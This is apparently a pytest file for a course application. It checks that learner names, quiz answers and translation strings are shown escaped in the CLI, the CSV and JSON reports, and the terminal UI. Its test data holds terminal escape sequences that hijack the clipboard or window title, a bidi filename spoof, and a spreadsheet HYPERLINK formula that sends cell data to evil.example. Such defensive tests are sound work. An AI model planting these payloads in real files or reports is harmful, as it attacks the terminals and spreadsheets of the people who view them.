"""Hostile text in a progress file (names, typed answers) reaches no terminal and no spreadsheet raw.

Progress files travel: `report` reads files collected from trainees' machines, so whatever a
file holds is shown by the real commands, run here as an instructor runs them, and by the app.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import OptionList

from course.content import Course
from course.printable import cell_width
from course.progress import ProgressStore, open_store
from course.quiz import InvalidAnswer, Presented, correct_answer, grade
from course.tui.screens.course_map import CourseMapScreen
from course.tui.screens.profiles import ProfileScreen
from course.tui.screens.results import ResultsScreen
from tests.test_app import visible_text
from tests.tui_helpers import Clock, build_app, load

LONG_NAME = "\x1b]52;c;SGVsbG8=\x07Phạm Văn " + "A" * 10_000  # clipboard, and wider than any screen
NAMES = {
    "clipboard": "\x1b]52;c;SGVsbG8=\x07Ann",  # OSC 52: sets the clipboard
    "title": "\x1b]2;pwned\x07Binh",  # OSC 2: sets the window title
    "clear": "\x1b[2JChi",  # clears the screen
    "override": "Dung\u202egnp.exe",  # RIGHT-TO-LEFT OVERRIDE: shows as "Dungexe.png"
    "c1": "Em\x9b31m",  # C1 CSI: a colour on some terminals
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Giang")',
    "plus": "+1+1 Hoa",
    "minus": "-2+3 Khanh",
    "at": "@SUM(1) Linh",
    "tab": "\tMai",
    "return": "\rNam",
    "long": LONG_NAME,
}
SHOWN = {
    "clipboard": "^[]52;c;SGVsbG8=^GAnn",
    "title": "^[]2;pwned^GBinh",
    "clear": "^[[2JChi",
    "override": "Dung<U+202E>gnp.exe",
    "c1": "Em<U+009B>31m",
}
HOSTILE_ANSWER = "\x1b]52;c;QUFB\x07Buda\u202epest"
HOSTILE_CHOICE = "\x1b[2Jzzz"
FORMULA_ANSWER = '=HYPERLINK("http://evil.example","Budapest")'

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def assert_nothing_raw(text: str) -> None:
    """No control (but a line end: LF, or CR LF as CSV writes it), C1 or bidi character.

    Decided without the module under test.
    """
    text = text.replace("\r\n", "\n")
    found = [c for c in text if (unicodedata.category(c) == "Cc" and c != "\n") or c in BIDI]
    assert not found, f"raw {[f'U+{ord(c):04X}' for c in found[:5]]} in output"


@dataclass
class Classroom:
    course: Path
    data: Path
    attempt: int  # an attempt whose answers are hostile


def _attempt(course: Course, store: ProgressStore, clock: Clock, profile: int, answers: dict[str, Any]) -> int:
    quiz = course.quizzes["first-quiz"]
    plan = [Presented(question_id) for question_id in answers]
    record = store.start_attempt(profile, quiz.id, quiz.mode, 1, plan, None)
    for question_id, answer in answers.items():
        clock.advance(60)
        try:
            score = grade(course.questions()[question_id], answer, "en").score
        except InvalidAnswer:  # what another program wrote: the app never grades it
            score = 0.0
        store.record_answer(record.id, question_id, answer, score, "en")
    store.finish_attempt(record.id, 0.3, False)
    return record.id


@pytest.fixture
def classroom(course_copy: Path, tmp_path: Path) -> Classroom:
    """One progress file holding every hostile name, and attempts with hostile answers.

    q-single: Ann right, Binh and Chi wrong (Chi with an id no option has); q-tf the other way
    round: so q-single's discrimination index is negative, a number the csv must keep a number.
    """
    course = load(course_copy)
    data = tmp_path / "collected"
    data.mkdir()
    clock = Clock()
    store = open_store(data / "progress.sqlite3", clock=clock)
    ids = {key: store.create_profile(f"learner {n}", "en").id for n, key in enumerate(NAMES)}
    questions = course.questions()
    right = {q: correct_answer(questions[q]) for q in ("q-single", "q-tf")}
    wrong_tf = {"value": True}
    _attempt(course, store, clock, ids["clipboard"], {"q-single": right["q-single"], "q-tf": wrong_tf})
    _attempt(
        course,
        store,
        clock,
        ids["title"],
        {"q-single": {"choice": "b"}, "q-tf": right["q-tf"], "q-short": {"text": FORMULA_ANSWER}},
    )
    attempt = _attempt(
        course,
        store,
        clock,
        ids["clear"],
        {"q-single": {"choice": HOSTILE_CHOICE}, "q-tf": right["q-tf"], "q-short": {"text": HOSTILE_ANSWER}},
    )
    store.use_profile(ids["long"])  # the app opens on the most recent learner
    store.close()
    # What the app itself would refuse to store, written as another program could.
    with sqlite3.connect(data / "progress.sqlite3") as db:
        for key, name in NAMES.items():
            db.execute("UPDATE profiles SET name = ? WHERE id = ?", (name, ids[key]))
    db.close()
    return Classroom(course_copy, data, attempt)


def cybercourse(room: Classroom, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run(
        [sys.executable, "-m", "course", "--lang", "en", "--content", str(room.course), *args],
        capture_output=True,
        env=env,
        timeout=120,
    )


def output(result: subprocess.CompletedProcess[bytes]) -> str:
    out, err = result.stdout.decode("utf-8"), result.stderr.decode("utf-8")
    assert_nothing_raw(out)
    assert_nothing_raw(err)
    return out


def test_progress_shows_names_visibly_on_bounded_lines(classroom: Classroom) -> None:
    result = cybercourse(classroom, "--data-dir", str(classroom.data), "progress")
    out = output(result)
    assert result.returncode == 0
    for shown in SHOWN.values():
        assert shown in out
    assert "^[]52;c;SGVsbG8=^GPhạm Văn AAA" in out and "A…" in out  # the 10,000-character name, cut
    assert max(cell_width(line) for line in out.splitlines()) <= 120


def test_progress_json_carries_names_exactly_and_escaped(classroom: Classroom) -> None:
    out = output(cybercourse(classroom, "--data-dir", str(classroom.data), "progress", "--format", "json"))
    assert {learner["profile"] for learner in json.loads(out)} == set(NAMES.values())
    assert "\\u202e" in out and "\\u009b" in out


def test_a_hostile_name_on_the_command_line_is_shown_too(classroom: Classroom) -> None:
    result = cybercourse(classroom, "--data-dir", str(classroom.data), "progress", "--profile", "\x1b]2;x\x07")
    assert result.returncode == 1
    output(result)
    assert "No learner called ^[]2;x^G" in result.stderr.decode()


def test_report_table_shows_names_visibly_and_stays_narrow(classroom: Classroom) -> None:
    out = output(cybercourse(classroom, "report", str(classroom.data)))
    for shown in SHOWN.values():
        assert shown in out
    assert "^[]52;c;SGVsbG8=^GPhạm Văn AAA" in out
    widths = [cell_width(line) for line in out.splitlines()]
    assert max(widths) <= 130  # was 10,073 columns
    # Every row lines up with the header: the names' widths are measured in cells.
    _header, rule = out.splitlines()[:2]
    assert cell_width(rule) == len(rule)


def test_report_csv_neutralises_formulas_and_keeps_numbers(classroom: Classroom) -> None:
    out = output(cybercourse(classroom, "report", str(classroom.data), "--format", "csv"))
    assert out.count("\n") == out.count("\r\n") == len(NAMES) + 1  # RFC 4180 line ends, one row a learner
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    names = {row["learner"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Giang")' in names
    assert {"'+1+1 Hoa", "'-2+3 Khanh", "'@SUM(1) Linh", "'^IMai", "'^MNam"} <= names
    assert set(SHOWN.values()) <= names
    for row in rows:
        assert not row["learner"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert float(row["lessons_read"]) == 0 and float(row["minutes_spent"]) >= 0
        assert row["final-exam:attempts"] == "0"  # the last cell: no stray ^M
    clipboard = next(row for row in rows if row["learner"] == SHOWN["clipboard"])
    assert clipboard["first-quiz:attempts"] == "1" and clipboard["first-quiz:best"] == "30.0"


def test_report_csv_file_is_as_safe_as_the_screen(classroom: Classroom, tmp_path: Path) -> None:
    target = tmp_path / "class.csv"
    result = cybercourse(classroom, "report", str(classroom.data), "--format", "csv", "--output", str(target))
    assert result.returncode == 0
    text = target.read_text("utf-8")
    assert_nothing_raw(text)
    assert SHOWN["clipboard"] in text


def test_report_json_carries_names_exactly_and_escaped(classroom: Classroom) -> None:
    out = output(cybercourse(classroom, "report", str(classroom.data), "--format", "json"))
    assert {learner["name"] for learner in json.loads(out)} == set(NAMES.values())
    assert "\\u202e" in out and "\\u009b" in out and "\\u001b" in out


@pytest.mark.parametrize("form", ["table", "csv", "json"])
def test_analysis_shows_stored_choices_visibly(classroom: Classroom, form: str) -> None:
    out = output(cybercourse(classroom, "analysis", "first-quiz", str(classroom.data), "--format", form))
    if form == "json":
        [single] = [q for q in json.loads(out)["questions"] if q["question_id"] == "q-single"]
        assert single["choices"][HOSTILE_CHOICE] == 1 and single["discrimination"] < 0
    elif form == "csv":
        [single] = [row for row in csv.DictReader(io.StringIO(out)) if row["question"] == "q-single"]
        assert float(single["discrimination_index"]) == -100.0  # a number, not "'-100.0"
        assert "^[[2Jzzz=1" in single["choices"]
    else:
        assert "^[[2Jzzz:1" in out


@pytest.mark.parametrize("form", ["table", "csv", "json"])
def test_typed_answers_are_shown_visibly_and_never_run_in_a_spreadsheet(classroom: Classroom, form: str) -> None:
    args = ("analysis", "first-quiz", str(classroom.data), "--answers", "--format", form)
    out = output(cybercourse(classroom, *args))
    if form == "json":
        [short] = [q for q in json.loads(out)["questions"] if q["question"] == "q-short"]
        assert {a["text"] for a in short["answers"]} == {HOSTILE_ANSWER, FORMULA_ANSWER}
    elif form == "csv":
        answers = {row["answer"]: row for row in csv.DictReader(io.StringIO(out, newline=""))}
        assert set(answers) == {"^[]52;c;QUFB^GBuda<U+202E>pest", "'" + FORMULA_ANSWER}
        assert all(row["count"] == "1" for row in answers.values())  # numbers stay numbers
    else:
        assert "^[]52;c;QUFB^GBuda<U+202E>pest" in out and FORMULA_ANSWER in out


def test_validate_shows_what_it_quotes_from_a_file(course_copy: Path) -> None:
    quiz = course_copy / "quizzes" / "first-quiz.yaml"
    quiz.write_text(quiz.read_text("utf-8").replace("    answer: a\n", '    answer: "\\e]52;c;QUFB\\a"\n', 1), "utf-8")
    room = Classroom(course_copy, course_copy, 0)
    result = cybercourse(room, "validate", str(course_copy))
    out = output(result)
    assert result.returncode == 1
    assert "^[]52;c;QUFB^G" in out
    out = output(cybercourse(room, "validate", str(course_copy), "--format", "json"))
    assert "\\u001b]52;c;QUFB\\u0007" in out


def test_import_messages_show_what_the_file_says(course_copy: Path, tmp_path: Path) -> None:
    bank = tmp_path / "bank.gift"
    bank.write_text("::q1:: In which year? {#1..2..3\x1b]2;pwned\x07}\n", "utf-8")
    room = Classroom(course_copy, course_copy, 0)
    result = cybercourse(room, "import", str(bank), "--lang", "en", "--output", str(tmp_path / "bank.yaml"))
    output(result)
    assert "3^[]2;pwned^G' is not a number" in result.stderr.decode()  # the file's text, quoted visibly


# -- the app -----------------------------------------------------------------------------------


async def test_app_header_lists_and_results_show_stored_text_visibly(classroom: Classroom) -> None:
    app = build_app(load(classroom.course), classroom.data)
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        assert isinstance(app.screen, CourseMapScreen)
        text = visible_text(app)
        assert_nothing_raw(text)
        top = text.splitlines()[0]
        assert "Learner: ^[]52;c;SGVsbG8=^GPhạm Văn AAA" in top and "…" in top
        assert top.rstrip().endswith("English")  # the header is still whole
        await pilot.press("p")
        await pilot.pause()
        assert isinstance(app.screen, ProfileScreen)
        assert_nothing_raw(visible_text(app))
        listing = app.screen.query_one("#profile-list", OptionList)
        entries = "\n".join(str(listing.get_option_at_index(i).prompt) for i in range(listing.option_count))
        assert_nothing_raw(entries)
        for shown in SHOWN.values():
            assert shown in entries
        assert max(cell_width(line) for line in entries.splitlines()) <= 60
        await pilot.press("escape")
        await pilot.pause()
        app.push_screen(ResultsScreen(app.session, classroom.attempt))
        await pilot.pause()
        await pilot.press("down", "down")  # the third question: the typed answer
        await pilot.pause()
        text = visible_text(app)
        assert_nothing_raw(text)
        assert "^[]52;c;QUFB^GBuda<U+202E>pest" in text
        await pilot.press("up", "up")  # the first: a choice no option has
        await pilot.pause()
        assert "^[[2Jzzz" in visible_text(app)


def test_the_app_sends_no_stored_sequence_to_a_real_terminal(classroom: Classroom) -> None:
    """The app in a pseudo-terminal: the bytes it writes hold the visible forms, not the sequences."""
    import pty
    import select
    import signal
    import struct
    import termios
    import time
    from fcntl import ioctl

    pid, fd = pty.fork()
    if pid == 0:  # pragma: no cover - the child becomes the app, on a 100x30 terminal
        ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
        # The terminal's own size, not the one the test runner put in COLUMNS and LINES.
        env = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES")}
        env.update({"TERM": "xterm-256color", "PYTHONIOENCODING": "utf-8"})
        os.execve(
            sys.executable,
            [
                sys.executable,
                "-m",
                "course",
                "--lang",
                "en",
                "--content",
                str(classroom.course),
                "--data-dir",
                str(classroom.data),
            ],
            env,
        )
    header = "^[]52;c;SGVsbG8=^GPhạm Văn AAAA".encode()  # the top bar's learner, in visible form
    received = b""
    deadline = time.monotonic() + 60
    try:
        while header not in received and time.monotonic() < deadline:
            ready, _, _ = select.select([fd], [], [], 1)
            if ready:
                try:
                    received += os.read(fd, 65536)
                except OSError:
                    break
    finally:
        os.kill(pid, signal.SIGTERM)
        os.waitpid(pid, 0)
        os.close(fd)
    assert header in received, received[-2000:]
    assert b"\x1b]52;c;SGVsbG8=" not in received
    assert "\u202e".encode() not in received and "\x9b".encode() not in received


# -- translators' catalogs ---------------------------------------------------------------------


def test_a_control_character_in_a_translation_is_named_and_never_sent(tmp_path: Path) -> None:
    from course.i18n.audit import check_characters
    from course.i18n.catalogs import load_translations
    from tests.test_translation import po, write

    path = write(tmp_path, po('msgid "Course map"\nmsgstr "Bản đồ\x1b]2;pwned\x07 khóa học"\n'))
    [problem] = check_characters(path)
    assert problem.line == 7 and "U+001B" in problem.message
    assert load_translations(tmp_path, "vi").gettext("Course map") == "Bản đồ^[]2;pwned^G khóa học"
